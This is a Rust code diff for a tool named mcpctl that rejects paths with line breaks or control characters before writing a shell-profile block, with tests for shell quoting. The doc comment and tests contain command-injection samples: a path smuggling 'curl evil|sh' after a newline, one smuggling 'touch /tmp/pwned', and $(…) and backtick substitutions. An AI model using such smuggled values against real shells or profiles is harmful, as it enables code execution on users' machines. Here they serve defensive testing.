@@ -9,6 +9,16 @@
 //! several projects can each own one, and every other byte of the profile
 //! is kept. Everything here is pure (text in, text out; paths from a
 //! [`Host`]).
+//!
+//! Paths reach a profile twice: quoted per shell ([`quote`]) on the line
+//! that runs `mcpctl env`, and bare on the marker comments that delimit the
+//! block. A comment ends at a line break, so a path holding one (a checkout
+//! in a directory named `x⏎curl evil|sh`) would put its own line into the
+//! profile; [`block`] refuses such a path, and any path that is not UTF-8
+//! text (it could not be written back exactly), rather than escape it.
+//! Which variable names may be exported at all is [`exportable`]'s concern.
+
+pub mod exportable;
 
 use std::path::{Path, PathBuf};
 
@@ -103,11 +113,54 @@ fn end_marker(manifest: &Path) -> String {
     format!("# <<< mcpctl {} <<<", manifest.display())
 }
 
+/// A path the block cannot hold: mcpctl's own or the manifest's.
+#[derive(Debug, thiserror::Error, miette::Diagnostic)]
+#[error("the {what} `{shown}` {why}, which the block mcpctl keeps in a shell profile cannot hold")]
+#[diagnostic(help(
+    "move the {what} to a path without line breaks or control characters, or remove `shell-profile` from the manifest; nothing was written"
+))]
+pub struct BlockError {
+    what: &'static str,
+    /// The path with its control characters escaped (`\n`).
+    shown: String,
+    why: &'static str,
+}
+
+/// Whether a block can hold `path` on its marker comments.
+fn check_holdable(what: &'static str, path: &str) -> Result<(), BlockError> {
+    // Every Unicode line terminator, in case some shell honours one.
+    let line_breaks = [
+        '\n', '\r', '\u{0b}', '\u{0c}', '\u{85}', '\u{2028}', '\u{2029}',
+    ];
+    let why = if path.contains(line_breaks) {
+        "has a line break"
+    } else if path.contains(char::is_control) {
+        "has a control character"
+    } else {
+        return Ok(());
+    };
+    Err(BlockError {
+        what,
+        shown: path.escape_debug().to_string(),
+        why,
+    })
+}
+
 /// The block for `manifest` in `shell`'s profile: marker lines around a
-/// line that evaluates `mcpctl env`. It names only paths, never a value.
-pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> String {
+/// line that evaluates `mcpctl env`. It names only paths, never a value;
+/// a path it cannot hold (see the module docs) is an error.
+pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> Result<String, BlockError> {
+    let Some(manifest_text) = manifest.to_str() else {
+        return Err(BlockError {
+            what: "manifest",
+            shown: manifest.display().to_string().escape_debug().to_string(),
+            why: "is not UTF-8 text",
+        });
+    };
+    check_holdable("manifest", manifest_text)?;
+    check_holdable("mcpctl program", mcpctl)?;
     let exe = quote(shell, mcpctl);
-    let file = quote(shell, &manifest.display().to_string());
+    let file = quote(shell, manifest_text);
     let run = match shell {
         Shell::Bash | Shell::Zsh => {
             format!("eval \"$({exe} env --shell {shell} -f {file})\"")
@@ -117,11 +170,11 @@ pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> String {
             format!("& {exe} env --shell powershell -f {file} | Out-String | Invoke-Expression")
         }
     };
-    format!(
+    Ok(format!(
         "{}\n# Managed by `mcpctl apply`: exports the credentials this project's clients reference.\n{run}\n{}\n",
         begin_marker(manifest),
         end_marker(manifest)
-    )
+    ))
 }
 
 /// The byte range of `manifest`'s block in `text` (marker lines included,
@@ -274,10 +327,107 @@ mod tests {
         assert_eq!(String::from_utf8_lossy(&out.stdout), value);
     }
 
+    /// Issue 12: the marker comments hold the path bare, so a line break
+    /// in it would end the comment and put the rest on a line of its own.
+    #[test]
+    fn a_path_a_block_cannot_hold_is_refused() {
+        for path in [
+            "/repo\ntouch /tmp/pwned\n/mcpctl.kdl",
+            "/repo\r/mcpctl.kdl",
+            "/repo\u{2028}x/mcpctl.kdl",
+            "/repo\u{1b}[2J/mcpctl.kdl",
+        ] {
+            for shell in [Shell::Bash, Shell::Zsh, Shell::Fish, Shell::Powershell] {
+                let err = block(shell, "/usr/bin/mcpctl", Path::new(path)).unwrap_err();
+                let message = err.to_string();
+                assert!(message.contains("cannot hold"), "{message}");
+                assert!(
+                    !message.contains('\n'),
+                    "the path is shown escaped: {message}"
+                );
+            }
+        }
+        assert!(block(Shell::Bash, "/opt/x\ny/mcpctl", Path::new("/r/mcpctl.kdl")).is_err());
+        #[cfg(unix)]
+        {
+            use std::os::unix::ffi::OsStrExt;
+            let not_utf8 = Path::new(std::ffi::OsStr::from_bytes(b"/repo\xff/mcpctl.kdl"));
+            assert!(block(Shell::Bash, "/usr/bin/mcpctl", not_utf8).is_err());
+        }
+    }
+
+    /// Paths with quotes, `$(…)`, backticks and spaces are quoted on the
+    /// line that runs `mcpctl env`: a real bash and a POSIX sh source the
+    /// block, the program receives the path byte for byte, and nothing in
+    /// the path runs. (zsh and fish too, where installed.)
+    #[cfg(unix)]
+    #[test]
+    fn shells_run_the_block_with_the_path_as_one_word() {
+        let dir = tempfile::tempdir().unwrap();
+        let marker = dir.path().join("ran");
+        let nasty = format!(
+            "{}/it's $(touch {m}) `touch {m}` a  b\\c\"d;$HOME",
+            dir.path().display(),
+            m = marker.display()
+        );
+        fs_err::create_dir_all(&nasty).unwrap();
+        let manifest = Path::new(&nasty).join("mcpctl.kdl");
+        // A stand-in for mcpctl, itself at a nasty path: it records its
+        // arguments, one per line, and prints an export.
+        let program = Path::new(&nasty).join("fake mcpctl");
+        let args_file = dir.path().join("args");
+        fs_err::write(
+            &program,
+            format!(
+                "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\necho 'export SEEN=yes'\n",
+                args_file.display()
+            ),
+        )
+        .unwrap();
+        fs_err::set_permissions(
+            &program,
+            std::os::unix::fs::PermissionsExt::from_mode(0o755),
+        )
+        .unwrap();
+        for (shell, runner, tail) in [
+            (Shell::Bash, "bash", "printf %s \"$SEEN\""),
+            (Shell::Bash, "sh", "printf %s \"$SEEN\""),
+            (Shell::Zsh, "zsh", "printf %s \"$SEEN\""),
+            (Shell::Fish, "fish", "printf %s \"$SEEN\""),
+        ] {
+            let text = block(shell, program.to_str().unwrap(), &manifest).unwrap();
+            assert_eq!(text.lines().count(), 4, "{text}");
+            let profile = dir.path().join(format!("profile.{runner}"));
+            fs_err::write(&profile, &text).unwrap();
+            let _ = fs_err::remove_file(&args_file);
+            let script = format!(". '{}'\n{tail}", profile.display());
+            let Ok(out) = std::process::Command::new(runner)
+                .arg("-c")
+                .arg(&script)
+                .output()
+            else {
+                continue; // not installed
+            };
+            assert_eq!(
+                String::from_utf8_lossy(&out.stdout),
+                "yes",
+                "{runner}: {}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+            let args = fs_err::read_to_string(&args_file).unwrap();
+            assert_eq!(
+                args,
+                format!("env\n--shell\n{shell}\n-f\n{}\n", manifest.display()),
+                "{runner}"
+            );
+            assert!(!marker.exists(), "{runner} ran part of the path");
+        }
+    }
+
     #[test]
     fn blocks_are_set_in_place_appended_and_removed() {
         let manifest = Path::new("/repo/mcpctl.kdl");
-        let block = block(Shell::Zsh, "/usr/bin/mcpctl", manifest);
+        let block = block(Shell::Zsh, "/usr/bin/mcpctl", manifest).unwrap();
         assert_eq!(
             block,
             "# >>> mcpctl /repo/mcpctl.kdl >>>\n# Managed by `mcpctl apply`: exports the credentials this project's clients reference.\neval \"$('/usr/bin/mcpctl' env --shell zsh -f '/repo/mcpctl.kdl')\"\n# <<< mcpctl /repo/mcpctl.kdl <<<\n"
